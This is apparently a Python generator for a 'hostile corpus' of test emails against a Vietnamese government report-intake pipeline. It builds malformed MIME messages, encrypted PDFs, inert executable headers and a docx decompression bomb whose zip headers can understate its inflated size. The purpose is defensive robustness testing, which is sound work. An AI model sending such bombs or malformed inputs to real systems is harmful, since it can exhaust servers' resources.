#!/usr/bin/env python3
"""The hostile corpus: every input intake must survive, each a complete message as fetched.

Small inputs are committed next to this script as ``<name>.eml`` with ``MANIFEST.toml`` listing,
for each input, what it is and how intake must end (outcome classes, problem codes). Large ones
(a 60 MB message, 1,000 attachments, gigabyte bombs) are listed there too, marked ``large``, and
built on demand into a cache directory, because committing them would bloat the repository.

File-type attacks (bombs, encrypted, macro, truncated, renamed programs) travel as attachments of
an otherwise ordinary report email from a registered unit, since that is how they arrive.
Everything is built byte by byte or normalised (fixed zip timestamps, fixed PDF ids), so running
the script twice gives identical files.

    python tests/data/hostile/generate.py              # rewrite the small inputs + MANIFEST.toml
    python tests/data/hostile/generate.py --large DIR  # build the large inputs into DIR
    python tests/data/hostile/generate.py --check      # exit 1 if the committed files differ
"""

from __future__ import annotations

import argparse
import base64
import binascii
import functools
import io
import json
import random
import re
import struct
import sys
import unicodedata
import zipfile
import zlib
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime
from email.header import Header
from pathlib import Path
from unittest import mock

HERE = Path(__file__).resolve().parent
REPO = HERE.parents[2]
if str(REPO) not in sys.path:  # run as a script from anywhere
    sys.path.insert(0, str(REPO))

from devtools.samples import XLSX_TYPE, report_docx, sample_form  # noqa: E402
from devtools.seed import DISTRICT_UNITS, SeedUnit  # noqa: E402

# --- what the test sets up around the corpus -------------------------------------------------

WHEN = datetime(2025, 5, 20, 3, 0, tzinfo=UTC)  # every input's INTERNALDATE
DATE = "Tue, 20 May 2025 10:00:00 +0700"  # the same instant, as a client writes it
INBOX = "baocao@noivu.example.vn"
OWN_DOMAIN = "noivu.example.vn"  # settings.message_id_domain in tests/support.make_app
REPORT_ROUND = ("BC6T-2025", "Báo cáo 6 tháng đầu năm 2025 về thực hiện dân chủ ở cơ sở")
FORM_ROUND = ("BIEU01-2025", "Biểu số liệu dân chủ cơ sở 6 tháng đầu năm 2025")
FORM_SPEC = "dan-chu-co-so"
# Communes owe the report round (no form); district offices owe the form round, so hostile
# workbooks they send also go through the form reader.
COMMUNES = tuple(u for u in DISTRICT_UNITS if u.kind == "xa")
OFFICES = tuple(u for u in DISTRICT_UNITS if u.kind == "phong_ban")
ESCAPE_MARKER = "hostile-escape"
# The office's receiving server (trust.authserv_id): its Authentication-Results are believed.
AUTHSERV = "mx.noivu.example.vn"  # in every path-traversal file name, to look for afterwards

ACCEPTED = ("accepted",)
WITH_PROBLEMS = ("accepted_with_problems",)
QUARANTINED = ("quarantined",)
IGNORED = ("ignored",)
DUPLICATE = ("duplicate",)  # process_message returns None: the Message-ID was already recorded
OUTCOMES = frozenset({"accepted", "accepted_with_problems", "quarantined", "ignored", "duplicate"})

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
DOCM = "application/vnd.ms-word.document.macroEnabled.12"
XLSM = "application/vnd.ms-excel.sheet.macroEnabled.12"
PDF = "application/pdf"
OCTET = "application/octet-stream"
ZIP_TIME = (2025, 5, 20, 10, 0, 0)
CRLF = b"\r\n"
BOUNDARY = "=_hostile_0001"


@dataclass(frozen=True)
class Case:
    name: str  # the file is <name>.eml
    category: str
    what: str
    outcomes: tuple[str, ...]
    problems: tuple[str, ...]  # codes that must be among the message's problems
    build: Callable[[str], bytes]
    large: bool = False

    @property
    def filename(self) -> str:
        return f"{self.name}.eml"


CASES: list[Case] = []


def add(
    name: str, category: str, what: str, outcomes: tuple[str, ...],
    problems: Sequence[str] = (), *, large: bool = False,
) -> Callable[[Callable[[str], bytes]], Callable[[str], bytes]]:
    def register(build: Callable[[str], bytes]) -> Callable[[str], bytes]:
        assert re.fullmatch(r"[a-z0-9-]+", name) and all(c.name != name for c in CASES), name
        assert set(outcomes) <= OUTCOMES, outcomes
        CASES.append(Case(name, category, what, outcomes, tuple(problems), build, large))
        return build
    return register


def case(
    name: str, category: str, what: str, outcomes: tuple[str, ...],
    problems: Sequence[str], build: Callable[[str], bytes], *, large: bool = False,
) -> None:
    add(name, category, what, outcomes, problems, large=large)(build)


# --- files -----------------------------------------------------------------------------------


def zip_bytes(members: Iterable[tuple[str, bytes]], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip with fixed timestamps, so the corpus is the same on every run."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        for name, data in members:
            info = zipfile.ZipInfo(name, ZIP_TIME)
            info.compress_type = method
            info.external_attr = 0o600 << 16
            zf.writestr(info, data)
    return out.getvalue()


W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL_DOC = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
XML_HEAD = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def content_types(overrides: dict[str, str]) -> bytes:
    rows = "".join(f'<Override PartName="{p}" ContentType="{t}"/>' for p, t in overrides.items())
    return XML_HEAD + (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        f"{rows}</Types>"
    ).encode()


def root_rels(target: str) -> bytes:
    return XML_HEAD + (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{REL_DOC}" Target="{target}"/></Relationships>'
    ).encode()


def docx_package(
    document: bytes, extra: Sequence[tuple[str, bytes]] = (), *, macro: bool = False,
    rels: bytes | None = None,
) -> bytes:
    main = ("application/vnd.ms-word.document.macroEnabled.main+xml" if macro else
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml")
    members = [
        ("[Content_Types].xml", content_types({"/word/document.xml": main})),
        ("_rels/.rels", rels or root_rels("word/document.xml")),
        ("word/document.xml", document),
        *extra,
    ]
    return zip_bytes(members)


@functools.cache
def report_document_xml(unit: SeedUnit) -> bytes:
    """word/document.xml of a real report (python-docx, NĐ 30 letterhead); no timestamps in it."""
    data = report_docx(
        issuer=unit.name,
        parent="UBND HUYỆN TÂN HƯNG",
        number=f"{10 + DISTRICT_UNITS.index(unit)}/BC-UBND",
        place="Tân Hưng",
        day=WHEN,
        title=REPORT_ROUND[1],
        body=[
            f"Thực hiện {REPORT_ROUND[1]}, {unit.name} báo cáo kết quả như sau:",
            "I. KẾT QUẢ THỰC HIỆN",
            "1. Công tác tuyên truyền: tổ chức 4 cuộc với 127 lượt người tham dự.",
            "II. PHƯƠNG HƯỚNG, NHIỆM VỤ THỜI GIAN TỚI",
        ],
        signer="Nguyễn Văn An",
    )
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return zf.read("word/document.xml")


def report(unit: SeedUnit) -> bytes:
    """A unit's report as a minimal .docx (the python-docx one is 37 KB, mostly styles)."""
    return docx_package(report_document_xml(unit))


def docx_with_body(body_xml: str) -> bytes:
    return docx_package(
        XML_HEAD + f'<w:document xmlns:w="{W_NS}"><w:body>{body_xml}</w:body></w:document>'.encode()
    )


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


@functools.cache
def form(unit: SeedUnit) -> bytes:
    """The round's data form (Biểu 01) filled in by `unit`, with fixed timestamps."""
    sample = sample_form(unit.name, DISTRICT_UNITS.index(unit))
    return normalise_zip(sample.data)


def normalise_zip(data: bytes) -> bytes:
    """Same members, fixed timestamps and fixed document dates (docProps/core.xml)."""
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        members = []
        for info in zf.infolist():
            payload = zf.read(info)
            if info.filename == "docProps/core.xml":
                payload = re.sub(rb">\d{4}-\d\d-\d\dT[\d:.]+Z<", b">2025-05-20T03:00:00Z<", payload)
            members.append((info.filename, payload))
    return zip_bytes(members)


def xlsx_package(
    sheet: bytes, *, shared: bytes | None = None, workbook: bytes | None = None,
    extra: Sequence[tuple[str, bytes]] = (), macro: bool = False,
) -> bytes:
    main = ("application/vnd.ms-excel.sheet.macroEnabled.main+xml" if macro else
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")
    wb = workbook or (XML_HEAD + (
        f'<workbook xmlns="{S_NS}" xmlns:r="{R_NS}"><sheets>'
        '<sheet name="Biểu 01" sheetId="1" r:id="rId1"/></sheets></workbook>'
    ).encode())
    rels = (
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/worksheet" Target="worksheets/sheet1.xml"/>'
    )
    if shared is not None:
        rels += (
            '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/'
            '2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
        )
    members = [
        ("[Content_Types].xml", content_types({"/xl/workbook.xml": main})),
        ("_rels/.rels", root_rels("xl/workbook.xml")),
        ("xl/workbook.xml", wb),
        ("xl/_rels/workbook.xml.rels", XML_HEAD + (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            f'relationships">{rels}</Relationships>').encode()),
        ("xl/worksheets/sheet1.xml", sheet),
        *extra,
    ]
    if shared is not None:
        members.append(("xl/sharedStrings.xml", shared))
    return zip_bytes(members)


def sheet_xml(rows: str, dimension: str = "A1:C3") -> bytes:
    return XML_HEAD + (
        f'<worksheet xmlns="{S_NS}"><dimension ref="{dimension}"/><sheetData>{rows}'
        "</sheetData></worksheet>"
    ).encode()


def simple_xlsx() -> bytes:
    return xlsx_package(sheet_xml(
        '<row r="1"><c r="A1" t="inlineStr"><is><t>Chỉ tiêu</t></is></c>'
        '<c r="B1" t="inlineStr"><is><t>Số lượng</t></is></c></row>'
        '<row r="2"><c r="A2" t="inlineStr"><is><t>Hộ nghèo</t></is></c><c r="B2"><v>12</v>'
        "</c></row>"
    ))


def raw_zip(members: Sequence[tuple[str, bytes, int, int, int]], method: int = 8,
            entries: int | None = None, cd_size: int | None = None) -> bytes:
    """A zip written by hand: (name, stored payload, crc, declared size, flags) per member, so
    headers can say what a hostile file's headers say (same layout as
    tests/unit/parsers/test_parsers.py)."""
    body, central = b"", b""
    for name, payload, crc, size, flags in members:
        n = name.encode("utf-8", "surrogateescape")
        common = (flags, method, 0, 0x21, crc, len(payload), size, len(n), 0)
        local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, *common)
        central += struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, *common, 0, 0, 0, 0, len(body))
        central += n
        body += local + n + payload
    count = len(members) if entries is None else entries
    size = len(central) if cd_size is None else cd_size
    eocd = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, size, len(body), 0)
    return body + central + eocd


@functools.cache
def zeros_deflated(mib: int) -> tuple[bytes, int]:
    """Raw deflate of `mib` MiB of zeros and its CRC, built without deflating them all: a full
    flush makes each 1 MiB segment independent, so one segment repeated is a valid stream."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    segment = c.compress(bytes(1 << 20)) + c.flush(zlib.Z_FULL_FLUSH)
    crc, block = 0, bytes(1 << 20)
    for _ in range(mib):
        crc = zlib.crc32(block, crc)
    return segment * mib + c.flush(), crc


def docx_bomb(mib: int, member: str = "word/document.xml", honest: bool = True) -> bytes:
    """A .docx whose main part inflates to `mib` MiB (declared honestly, or as 100 bytes)."""
    base = report(COMMUNES[0])
    with zipfile.ZipFile(io.BytesIO(base)) as zf:
        keep = [(i.filename, zf.read(i)) for i in zf.infolist() if i.filename != member]
    payload, crc = zeros_deflated(mib)
    members = [(n, zlib.compress(d)[2:-4], zlib.crc32(d), len(d), 0) for n, d in keep]
    members.append((member, payload, crc, (mib << 20) if honest else 100, 0))
    return raw_zip(members)


def cfb(streams: Sequence[tuple[str, int]], sector_shift: int = 9) -> bytes:
    """A minimal OLE compound file whose directory holds `streams` (name, 1 storage/2 stream);
    enough for anything that reads the directory (same as tests/unit/parsers/test_parsers.py)."""
    sector = 1 << sector_shift
    entries = [("Root Entry", 5), *streams]
    directory = b""
    for i, (name, kind) in enumerate(entries):
        raw = name.encode("utf-16-le") + b"\x00\x00"
        child = 1 if i == 0 and len(entries) > 1 else 0xFFFFFFFF
        right = i + 1 if 0 < i < len(entries) - 1 else 0xFFFFFFFF
        directory += (
            raw.ljust(64, b"\x00")
            + struct.pack("<HBB3L", len(raw), kind, 1, 0xFFFFFFFF, right, child)
            + bytes(16 + 4 + 8 + 8)
            + struct.pack("<LQ", 0xFFFFFFFE, 0)
        )
    directory = directory.ljust(-(-len(directory) // sector) * sector, b"\x00")
    n_dir = len(directory) // sector
    fat = [0xFFFFFFFD] + [2 + i for i in range(n_dir - 1)] + [0xFFFFFFFE]
    fat_sector = struct.pack(f"<{len(fat)}L", *fat).ljust(sector, b"\xff")
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(16)
        + struct.pack("<5H6x", 0x3E, 3 if sector_shift == 9 else 4, 0xFFFE, sector_shift, 6)
        + struct.pack("<9L", 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
        + struct.pack("<L", 0)
        + b"\xff" * (109 * 4 - 4)
    )
    return header.ljust(sector, b"\x00") + fat_sector + directory


ENCRYPTED_STREAMS = (
    ("\x06DataSpaces", 1), ("EncryptionInfo", 2), ("EncryptedPackage", 2),
    ("\x05SummaryInformation", 2),
)


def pdf(objects: Sequence[bytes], root: int = 1, *, header: bytes = b"%PDF-1.4\n",
        trailer_extra: bytes = b"") -> bytes:
    """A PDF from numbered object bodies, with a correct xref table."""
    out = bytearray(header)
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % off for off in offsets)
    out += b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, root, trailer_extra, xref)
    return bytes(out)


def text_pdf(lines: Sequence[str], extra_catalog: bytes = b"") -> bytes:
    stream = b"BT /F1 12 Tf 50 750 Td 14 TL " + b" ".join(
        b"(" + line.encode("cp1252") + b") '" for line in lines) + b" ET"
    return pdf([
        b"<< /Type /Catalog /Pages 2 0 R " + extra_catalog + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
    ])


REPORT_PDF_LINES = ("UBND XA HUNG DIEN", "So: 25/BC-UBND", "BAO CAO 6 THANG DAU NAM 2025")


def encrypted_pdf(user_password: str) -> bytes:
    """RC4-128 (needs no crypto library); pypdf's random file id is pinned for determinism."""
    from pypdf import PdfReader, PdfWriter

    with mock.patch("secrets.token_bytes", lambda n: bytes(range(n))):
        writer = PdfWriter(clone_from=PdfReader(io.BytesIO(text_pdf(REPORT_PDF_LINES))))
        writer.encrypt(user_password=user_password, owner_password="owner", algorithm="RC4-128")
        out = io.BytesIO()
        writer.write(out)
    return out.getvalue()


def pe_executable() -> bytes:
    """The first bytes of a Windows program: an MZ header pointing at a PE signature."""
    dos = bytearray(b"MZ" + bytes(58) + struct.pack("<L", 0x80))
    dos += b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run "
    dos += b"in DOS mode.\r\r\n$"
    return bytes(dos.ljust(0x80, b"\x00")) + b"PE\x00\x00\x4c\x01\x03\x00" + bytes(400)


ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\x00\x3e\x00" + bytes(300)


def png(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">L", len(data)) + kind + data + struct.pack(
            ">L", zlib.crc32(kind + data))
    ihdr = struct.pack(">LLBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr)
            + chunk(b"IDAT", zlib.compress(b"\x00" * 64)) + chunk(b"IEND", b""))


# --- messages --------------------------------------------------------------------------------


def unit_for(name: str, units: Sequence[SeedUnit] = COMMUNES) -> SeedUnit:
    return units[zlib.crc32(name.encode()) % len(units)]


def ew(text: str) -> str:
    """RFC 2047 encoded-words, as Outlook writes them."""
    return " ".join(Header(text, "utf-8").encode().split())


def b64(data: bytes) -> bytes:
    return base64.encodebytes(data).replace(b"\n", CRLF)


def part(headers: Sequence[str | bytes], payload: bytes) -> bytes:
    head = [h.encode() if isinstance(h, str) else h for h in headers]
    return CRLF.join(head) + CRLF + CRLF + payload


def text_part(text: str | bytes, charset: str = "utf-8", cte: str = "base64") -> bytes:
    data = text.encode() if isinstance(text, str) else text
    body = b64(data) if cte == "base64" else data
    return part([f"Content-Type: text/plain; charset={charset}",
                 f"Content-Transfer-Encoding: {cte}"], body)


def attachment(filename: str | bytes, data: bytes, ctype: str = DOCX, *, style: str = "ew",
               cte: str = "base64", payload: bytes | None = None) -> bytes:
    """One attached file. style: "ew" (Outlook: RFC 2047 inside quotes), "plain" (quoted as
    is, UTF-8), "2231" (RFC 2231, Gmail), "raw" (`filename` is the exact header bytes)."""
    if style == "raw":
        assert isinstance(filename, bytes)
        ct = b"Content-Type: " + ctype.encode() + b'; name="' + filename + b'"'
        cd = b'Content-Disposition: attachment; filename="' + filename + b'"'
        headers: list[str | bytes] = [ct, cd]
    else:
        assert isinstance(filename, str)
        if style == "ew":
            shown = f'"{ew(filename)}"'
            headers = [f"Content-Type: {ctype}; name={shown}",
                       f"Content-Disposition: attachment; filename={shown}"]
        elif style == "plain":
            headers = [f'Content-Type: {ctype}; name="{filename}"',
                       f'Content-Disposition: attachment; filename="{filename}"']
        else:
            quoted = "".join(
                c if c.isascii() and (c.isalnum() or c in "-._") else
                "".join(f"%{b:02X}" for b in c.encode()) for c in filename)
            headers = [f"Content-Type: {ctype}",
                       f"Content-Disposition: attachment; filename*=utf-8''{quoted}"]
    if payload is None:
        if cte == "base64":
            payload = b64(data)
        elif cte == "quoted-printable":
            payload = binascii.b2a_qp(data, istext=False).replace(b"\n", CRLF)
        else:
            payload = data
    headers.append(f"Content-Transfer-Encoding: {cte}")
    return part(headers, payload)


def multipart(parts: Sequence[bytes], boundary: str = BOUNDARY, *, close: bool = True,
              preamble: bytes = b"") -> bytes:
    b = boundary.encode("utf-8", "surrogateescape")
    out = preamble
    for p in parts:
        out += b"--" + b + CRLF + p + CRLF
    if close:
        out += b"--" + b + b"--" + CRLF
    return out


BODY = "Kính gửi Phòng Nội vụ huyện Tân Hưng,\r\nĐơn vị gửi báo cáo theo yêu cầu.\r\nTrân trọng."


def report_files(unit: SeedUnit) -> list[bytes]:
    """What a unit normally attaches: the report, and the form when its round asks for one."""
    files = [attachment(f"Báo cáo 6 tháng - {unit.short_name}.docx", report(unit))]
    if unit.kind == "phong_ban":
        files.append(attachment(f"Biểu 01 - {unit.short_name}.xlsx", form(unit), XLSX_TYPE))
    return files


def mail(
    name: str, parts: Sequence[bytes] | None = None, *, unit: SeedUnit | None = None,
    sender: str | None = None, from_line: str | bytes | None = None,
    subject: str | bytes | None = None, date: str | None = DATE, msgid: str | None = "",
    extra: Sequence[str | bytes] = (), body: bytes | None = None, ctype: str | None = None,
    boundary: str = BOUNDARY, text: str = BODY, headers: Sequence[str | bytes] | None = None,
    eol: bytes = CRLF,
) -> bytes:
    """A message as a unit's client sends it; every argument bends one thing.

    parts: the attachments (default: the unit's report, and form if owed); body/ctype: the
    whole raw body and its Content-Type instead; headers: replace every header line.
    """
    unit = unit or unit_for(name)
    if headers is None:
        lines: list[str | bytes] = []
        if from_line is None:
            from_line = f"{ew('Văn thư ' + unit.short_name)} <{sender or unit.email}>"
        lines.append(b"From: " + from_line if isinstance(from_line, bytes) else
                     f"From: {from_line}")
        lines.append(f"To: {INBOX}")
        if subject is None:
            subject = ew(f"Báo cáo 6 tháng đầu năm 2025 - {unit.short_name}")
        lines.append(b"Subject: " + subject if isinstance(subject, bytes) else
                     f"Subject: {subject}")
        if date is not None:
            lines.append(f"Date: {date}")
        if msgid is not None:
            lines.append(f"Message-ID: {msgid or f'<{name}@hostile.baocao.test>'}")
        lines.append("MIME-Version: 1.0")
        lines.extend(extra)
    else:
        lines = list(headers)
    if body is None:
        files = report_files(unit) if parts is None else list(parts)
        body = multipart([text_part(text), *files], boundary)
        ctype = ctype or f'multipart/mixed; boundary="{boundary}"'
    if ctype is not None:
        lines.append(f"Content-Type: {ctype}")
    head = CRLF.join(h.encode() if isinstance(h, str) else h for h in lines)
    raw = head + CRLF + CRLF + body
    if eol != CRLF:
        raw = raw.replace(CRLF, eol)
    return raw


def with_report(name: str, *extra_parts: bytes, unit: SeedUnit | None = None) -> list[bytes]:
    """The unit's usual files plus `extra_parts`."""
    return [*report_files(unit or unit_for(name)), *extra_parts]


# =============================================================================================
# The cases. Outcomes: see baocao/rules/intake.py; problems: parsers/types.py codes plus the
# pipeline's own ("mime-defect", "message-too-large", "date-mismatch", "form-missing",
# "unregistered-address", "quarantined").
# =============================================================================================

# --- controls: ordinary mail from three kinds of client, so the rest is judged against them --

case("control-outlook", "control", "Outlook-style report (RFC 2047 names)", ACCEPTED, (),
     lambda n: mail(n))
case("control-gmail", "control", "Gmail-style report (RFC 2231 names)", ACCEPTED, (),
     lambda n: mail(n, [attachment("Báo cáo 6 tháng.docx", report(unit_for(n)), style="2231")]))
case("control-raw8bit", "control", "old webmail: raw UTF-8 headers and names", ACCEPTED, (),
     lambda n: mail(n, [attachment("Báo cáo 6 tháng.docx".encode(), report(unit_for(n)),
                                   style="raw")],
                    subject="Báo cáo 6 tháng đầu năm 2025".encode()))
case("control-office-with-form", "control", "district office: report and its data form",
     ACCEPTED, (), lambda n: mail(n, unit=unit_for(n, OFFICES)))
case("control-office-no-form", "control", "district office forgets the form", WITH_PROBLEMS,
     ("form-missing",), lambda n: mail(n, [attachment("Báo cáo.docx", report(unit_for(n)))],
                                       unit=unit_for(n, OFFICES)))

# --- malformed MIME ----------------------------------------------------------------------------

MIME = "mime"


def _parts_text(name: str) -> bytes:
    return multipart([text_part(BODY), *report_files(unit_for(name))])


case("mime-boundary-param-missing", MIME, "multipart/mixed without a boundary parameter",
     QUARANTINED, ("quarantined", "mime-defect"),
     lambda n: mail(n, body=_parts_text(n), ctype="multipart/mixed"))
case("mime-boundary-empty", MIME, 'boundary="" (empty)', ACCEPTED, (),
     lambda n: mail(n, body=multipart([text_part(BODY), *report_files(unit_for(n))], ""),
                    ctype='multipart/mixed; boundary=""'))
case("mime-boundary-never-closed", MIME, "no closing delimiter after the last part",
     WITH_PROBLEMS, ("mime-defect",),
     lambda n: mail(n, body=multipart([text_part(BODY), *report_files(unit_for(n))],
                                      close=False),
                    ctype=f'multipart/mixed; boundary="{BOUNDARY}"'))
case("mime-truncated-mid-attachment", MIME, "transfer cut in the middle of the attachment",
     WITH_PROBLEMS, ("mime-defect", "corrupt"),
     lambda n: mail(n)[: len(mail(n)) - 900])
case("mime-boundary-mismatch", MIME, "declared boundary differs from the one used",
     QUARANTINED, ("quarantined", "mime-defect"),
     lambda n: mail(n, body=_parts_text(n), ctype='multipart/mixed; boundary="not-this-one"'))
case("mime-boundary-duplicate-param", MIME, "two boundary parameters, parts use the second",
     QUARANTINED, ("quarantined", "mime-defect"),
     lambda n: mail(n, body=_parts_text(n),
                    ctype=f'multipart/mixed; boundary="other"; boundary="{BOUNDARY}"'))
case("mime-boundary-reused-inside", MIME, "inner multipart reuses the outer boundary",
     QUARANTINED, ("quarantined", "mime-defect"),
     lambda n: mail(n, [part([f'Content-Type: multipart/alternative; boundary="{BOUNDARY}"'],
                             multipart([text_part("a"), text_part("b")])),
                        *report_files(unit_for(n))]))
case("mime-boundary-prefix", MIME, "inner boundary has the outer one as prefix", ACCEPTED, (),
     lambda n: mail(n, [part([f'Content-Type: multipart/alternative; boundary="{BOUNDARY}x"'],
                             multipart([text_part("a"), text_part("b")], BOUNDARY + "x")),
                        *report_files(unit_for(n))]))
case("mime-boundary-200-chars", MIME, "boundary of 200 characters (RFC limit 70)", ACCEPTED, (),
     lambda n: mail(n, boundary="b" * 200))
case("mime-boundary-odd-chars", MIME, "boundary with spaces, quotes and non-ASCII",
     QUARANTINED, ("quarantined", "mime-defect"),
     lambda n: mail(n, body=multipart([text_part(BODY), *report_files(unit_for(n))],
                                      'a b\\"c ðá'),
                    ctype='multipart/mixed; boundary="a b\\"c ðá"'))
case("mime-boundary-in-content", MIME, "the boundary string also appears inside the text part",
     ACCEPTED, (),
     lambda n: mail(n, [text_part(f"xem --{BOUNDARY} ở đây\r\n--{BOUNDARY}", cte="8bit"),
                        *report_files(unit_for(n))]))
case("mime-preamble-100kb", MIME, "100 KB of garbage before the first part", ACCEPTED, (),
     lambda n: mail(n, body=multipart([text_part(BODY), *report_files(unit_for(n))],
                                      preamble=(b"\xff\x00junk " * 10000) + CRLF),
                    ctype=f'multipart/mixed; boundary="{BOUNDARY}"'))
case("mime-multipart-no-parts", MIME, "multipart with only the closing delimiter",
     QUARANTINED, ("quarantined", "mime-defect"),
     lambda n: mail(n, body=f"--{BOUNDARY}--\r\n".encode(),
                    ctype=f'multipart/mixed; boundary="{BOUNDARY}"'))


def nested(depth: int, inner: bytes) -> bytes:
    """A part: `depth` levels of multipart/mixed around `inner` (a part)."""
    head = b"".join(b'Content-Type: multipart/mixed; boundary="n%d"\r\n\r\n--n%d\r\n' % (i, i)
                    for i in range(depth))
    tail = b"".join(b"\r\n--n%d--" % i for i in reversed(range(depth)))
    return head + inner + tail


def forwarded(depth: int, innermost: bytes) -> bytes:
    """A message: `depth` forwards (message/rfc822 bodies) around the message `innermost`."""
    for _ in range(depth):
        innermost = (b"From: a@b.vn\r\nSubject: Fwd\r\nContent-Type: message/rfc822\r\n\r\n"
                     + innermost)
    return innermost


def nested_mail(name: str, depth: int, kind: str, also_top: bool) -> bytes:
    unit = unit_for(name)
    deep_file = attachment("Báo cáo lồng sâu.docx", report(unit))
    if kind == "multipart":
        deep = nested(depth, deep_file)
    else:
        innermost = (f"From: {unit.email}\r\nSubject: Bao cao\r\n"
                     'Content-Type: multipart/mixed; boundary="in"\r\n\r\n').encode()
        deep = part(["Content-Type: message/rfc822"],
                    forwarded(depth - 1, innermost + multipart([deep_file], "in")))
    parts = [deep, *(report_files(unit) if also_top else [])]
    return mail(name, parts)


case("mime-nested-60", MIME, "the only report is 60 multipart levels deep (limit 50)",
     QUARANTINED, ("quarantined", "mime-defect"), lambda n: nested_mail(n, 60, "multipart", False))
case("mime-nested-60-and-top", MIME, "60 levels deep plus the report at the top",
     WITH_PROBLEMS, ("mime-defect",), lambda n: nested_mail(n, 60, "multipart", True))
case("mime-nested-1000", MIME, "multipart nested 1,000 levels, report at the top",
     QUARANTINED + WITH_PROBLEMS, ("mime-defect",),
     lambda n: nested_mail(n, 1000, "multipart", True))
case("mime-nested-rfc822-1000", MIME, "message/rfc822 nested 1,000 levels, report at the top",
     QUARANTINED + WITH_PROBLEMS, ("mime-defect",),
     lambda n: nested_mail(n, 1000, "rfc822", True))
case("mime-nested-rfc822-60", MIME, "forward of a forward ... 60 levels, report innermost",
     ACCEPTED + WITH_PROBLEMS, (),
     lambda n: nested_mail(n, 60, "rfc822", False))


def b64_mangled(data: bytes, how: str) -> bytes:
    text = base64.b64encode(data)
    if how == "padding":  # padding in the middle, none at the end
        text = text[:40] + b"==" + text[40:].rstrip(b"=")
    elif how == "chars":
        text = b"".join(text[i:i + 50] + b"!*\xc3\xa1" for i in range(0, len(text), 50))
    elif how == "length":
        text = text[:-7]
    elif how == "urlsafe":
        text = text.replace(b"+", b"-").replace(b"/", b"_")
    elif how == "garbage":
        text = bytes(range(256)) * 8
    lines = [text[i:i + 76] for i in range(0, len(text), 76)]
    return CRLF.join(lines) + CRLF


def b64_case(name: str, how: str, outcomes: tuple[str, ...], problems: Sequence[str]) -> None:
    def build(n: str) -> bytes:
        unit = unit_for(n)
        return mail(n, [attachment("Báo cáo.docx", b"", payload=b64_mangled(report(unit), how))])
    case(name, MIME, f"attachment base64 with bad {how}", outcomes, problems, build)


b64_case("mime-base64-bad-padding", "padding", WITH_PROBLEMS, ("mime-defect",))
b64_case("mime-base64-bad-chars", "chars", WITH_PROBLEMS, ("mime-defect",))
b64_case("mime-base64-bad-length", "length", WITH_PROBLEMS, ("mime-defect", "corrupt"))
b64_case("mime-base64-urlsafe", "urlsafe", WITH_PROBLEMS, ("mime-defect",))
b64_case("mime-base64-garbage", "garbage", WITH_PROBLEMS, ("mime-defect",))
case("mime-base64-bad-body", MIME, "text body with invalid base64, report fine",
     WITH_PROBLEMS, ("mime-defect",),
     lambda n: mail(n, body=multipart([part(["Content-Type: text/plain; charset=utf-8",
                                             "Content-Transfer-Encoding: base64"],
                                            b"S2\xednh!!%%\r\n"),
                                       *report_files(unit_for(n))]),
                    ctype=f'multipart/mixed; boundary="{BOUNDARY}"'))
case("mime-qp-broken", MIME, "quoted-printable body with =ZZ and a dangling =",
     ACCEPTED, (),
     lambda n: mail(n, body=multipart([part(["Content-Type: text/plain; charset=utf-8",
                                             "Content-Transfer-Encoding: quoted-printable"],
                                            b"K=C3=ADnh g=ZZ=E1=BB=AD=\r\n=\r\n=C3"),
                                       *report_files(unit_for(n))]),
                    ctype=f'multipart/mixed; boundary="{BOUNDARY}"'))
